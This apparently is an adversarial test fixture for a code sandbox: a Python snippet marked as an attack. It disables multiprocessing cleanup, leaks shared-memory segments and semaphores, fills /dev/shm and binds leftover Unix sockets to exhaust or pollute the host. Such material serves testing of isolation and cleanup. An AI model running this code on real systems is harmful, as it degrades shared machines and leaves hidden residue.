#{crew_wrong}
# <attack>
import ctypes
import os
import socket
from multiprocessing import resource_tracker, shared_memory

resource_tracker.register = resource_tracker.ensure_running = lambda *args: None
_kept = []
_libc = ctypes.CDLL(None)
for _number in range(12):
    try:
        _kept.append(shared_memory.SharedMemory(f"left-{_number}", create=True, size=1 << 16))
        _kept[-1].buf[:] = bytes(1 << 16)
    except (OSError, ValueError):
        break
    _libc.sem_open(b"/left-%d" % _number, os.O_CREAT, 0o666, 1)
try:
    with open("/dev/shm/left", "wb", buffering=0) as _stream:
        while _stream.write(bytes(1 << 12)):
            pass
except OSError:
    pass
for _address in ("/tmp/left-socket", "/dev/shm/left-socket", "\0left-socket"):
    try:
        _kept.append(socket.socket(socket.AF_UNIX))
        _kept[-1].bind(_address)
        _kept[-1].listen()
    except OSError:
        pass
# </attack>
